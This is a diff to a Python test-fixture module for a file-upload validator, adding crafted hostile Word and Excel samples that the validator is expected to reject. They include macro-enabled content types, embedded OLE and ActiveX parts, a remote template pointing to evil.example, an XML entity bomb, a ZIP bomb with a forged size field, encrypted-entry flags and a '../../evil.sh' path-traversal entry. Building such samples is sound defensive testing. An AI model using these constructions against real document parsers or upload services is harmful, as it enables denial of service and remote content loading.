@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import io
 import struct
+import zipfile
 import zlib
 from dataclasses import dataclass, field
 from functools import cache
@@ -20,6 +21,7 @@ from functools import cache
 from twinning.core.uploads import (
     AUDIO_LIMITS,
     IMAGE_LIMITS,
+    OFFICE_LIMITS,
     PDF_LIMITS,
     TEXT_LIMITS,
     Kind,
@@ -29,7 +31,7 @@ from twinning.core.uploads import (
 CANARY = "Zq7Kestrel4431"
 # Assembled at run time so this file itself carries no antivirus test signature.
 EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
-ALL_KINDS = (Kind.IMAGE, Kind.AUDIO, Kind.PDF, Kind.TEXT)
+ALL_KINDS = (Kind.IMAGE, Kind.AUDIO, Kind.PDF, Kind.TEXT)  # the office kinds have their own
 
 
 @dataclass(frozen=True)
@@ -783,11 +785,196 @@ def _text_samples() -> list[Sample]:
     ]
 
 
+# --- Office documents (DOCX, XLSX) ---------------------------------------------------------
+
+WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+
+
+@cache
+def docx(text: str = "Fundraising toolkit", *, author: str = "") -> bytes:
+    """A real Word document written by python-docx (with its author set, when given)."""
+    import docx as python_docx
+
+    document = python_docx.Document()
+    document.add_paragraph(text)
+    if author:
+        document.core_properties.author = author
+        document.core_properties.comments = author
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def xlsx(value: str = "Budget") -> bytes:
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    workbook.active.append([value, 1200])
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+def office_zip(parts: dict[str, bytes], *, stored: bool = False) -> bytes:
+    """A ZIP of the given parts, by hand (hostile documents no editor would write)."""
+    out = io.BytesIO()
+    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
+    with zipfile.ZipFile(out, "w", compression=method) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def docx_parts(extra: dict[str, bytes] | None = None) -> dict[str, bytes]:
+    """The parts of python-docx's document, with `extra` added or replacing some."""
+    with zipfile.ZipFile(io.BytesIO(docx())) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    parts.update(extra or {})
+    return parts
+
+
+def zip_bomb_docx() -> bytes:
+    """A document whose directory says one part unpacks to 4 GB: refused from the declared
+    sizes, before anything is inflated."""
+    data = bytearray(office_zip(docx_parts()))
+    at = data.find(b"PK\x01\x02")
+    data[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
+    return bytes(data)
+
+
+def encrypted_entry_docx() -> bytes:
+    """A document whose parts claim to be encrypted (the ZIP's flag bit 0)."""
+    data = bytearray(office_zip(docx_parts(), stored=True))
+    at = 0
+    while (at := data.find(b"PK\x01\x02", at)) != -1:
+        data[at + 8] |= 0x1
+        at += 4
+    at = 0
+    while (at := data.find(b"PK\x03\x04", at)) != -1:
+        data[at + 6] |= 0x1
+        at += 4
+    return bytes(data)
+
+
+def _office_samples() -> list[Sample]:
+    doc, lim = (Kind.DOCX,), OFFICE_LIMITS
+    macro_types = docx_parts()["[Content_Types].xml"].replace(
+        WORD_TYPE.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
+    )
+    remote = (
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+        b'2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"'
+        b' TargetMode="External"/></Relationships>'
+    )
+    entity = (
+        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'
+        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        b"&lol2;</w:document>"
+    )
+    return [
+        Sample(
+            "docm with macros",
+            office_zip(docx_parts({"[Content_Types].xml": macro_types})),
+            doc,
+            lim,
+            code="office_active_content",
+        ),
+        Sample(
+            "docx with vbaProject.bin",
+            office_zip(docx_parts({"word/vbaProject.bin": b"x"})),
+            doc,
+            lim,
+            code="office_active_content",
+        ),
+        Sample(
+            "docx with an embedded object",
+            office_zip(docx_parts({"word/embeddings/oleObject1.bin": b"MZ"})),
+            doc,
+            lim,
+            code="office_active_content",
+        ),
+        Sample(
+            "docx with activex",
+            office_zip(docx_parts({"word/activeX/activeX1.xml": b"<x/>"})),
+            doc,
+            lim,
+            code="office_active_content",
+        ),
+        Sample(
+            "docx loading a remote template",
+            office_zip(docx_parts({"word/_rels/settings.xml.rels": remote})),
+            doc,
+            lim,
+            code="office_active_content",
+        ),
+        Sample(
+            "docx with an entity bomb",
+            office_zip(docx_parts({"word/document.xml": entity})),
+            doc,
+            lim,
+            code="office_invalid",
+        ),
+        Sample("docx zip bomb", zip_bomb_docx(), doc, lim, code="office_too_complex"),
+        Sample(
+            "docx with encrypted parts", encrypted_entry_docx(), doc, lim, code="office_encrypted"
+        ),
+        Sample(
+            "docx with a path out of the archive",
+            office_zip({**docx_parts(), "../../evil.sh": b"rm"}),
+            doc,
+            lim,
+            code="office_invalid",
+        ),
+        Sample(
+            "docx whose main part has another type",
+            office_zip(docx_parts({"[Content_Types].xml": b"<Types/>"})),
+            doc,
+            lim,
+            code="office_invalid",
+        ),
+        Sample("docx cut in half", docx()[: len(docx()) // 2], doc, lim, code="forbidden_type"),
+        Sample(
+            "plain zip as .docx", office_zip({"a.txt": b"hello"}), doc, lim, code="forbidden_type"
+        ),
+        Sample(
+            "legacy .doc",
+            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200,
+            doc,
+            lim,
+            code="forbidden_type",
+        ),
+        Sample("xlsx where only docx goes", xlsx(), doc, lim, code="not_allowed"),
+        Sample(
+            "eicar inside a docx",
+            office_zip(docx_parts({"word/x.txt": EICAR}), stored=True),
+            doc,
+            lim,
+            code="malware",
+        ),
+        Sample(
+            "xlsm with macros",
+            office_zip(
+                {
+                    "[Content_Types].xml": b"<Types>macroEnabled</Types>",
+                    "xl/workbook.xml": b"<workbook/>",
+                }
+            ),
+            (Kind.XLSX,),
+            lim,
+            code="office_active_content",
+        ),
+        Sample("docx over the limit", docx(), doc, UploadLimits(max_bytes=1000), code="too_large"),
+    ]
+
+
 @cache
 def malicious() -> tuple[Sample, ...]:
     """UPL-1: every hostile file, each once under its own name and again under every hostile
     name (the name must change nothing)."""
-    base = _image_samples() + _audio_samples() + _pdf_samples() + _text_samples()
+    base = (
+        _image_samples() + _audio_samples() + _pdf_samples() + _text_samples() + _office_samples()
+    )
     renamed = [
         Sample(
             f"{sample.label} as {name[:30]!r}",
@@ -959,9 +1146,42 @@ def _valid_texts() -> list[Sample]:
     ]
 
 
+def _valid_office() -> list[Sample]:
+    docx_mime = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+    xlsx_mime = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    return [
+        Sample(
+            "python-docx document",
+            docx(),
+            (Kind.DOCX,),
+            OFFICE_LIMITS,
+            name="t.docx",
+            expect={"mime": docx_mime},
+        ),
+        Sample(
+            "docx with accents",
+            docx("Collecte de fonds : réseau"),
+            (Kind.DOCX,),
+            OFFICE_LIMITS,
+            name="t.docx",
+            expect={"mime": docx_mime},
+        ),
+        Sample(
+            "openpyxl workbook",
+            xlsx(),
+            (Kind.XLSX,),
+            OFFICE_LIMITS,
+            name="b.xlsx",
+            expect={"mime": xlsx_mime},
+        ),
+    ]
+
+
 @cache
 def valid() -> tuple[Sample, ...]:
-    return tuple(_valid_images() + _valid_audio() + _valid_pdfs() + _valid_texts())
+    return tuple(
+        _valid_images() + _valid_audio() + _valid_pdfs() + _valid_texts() + _valid_office()
+    )
 
 
 @cache
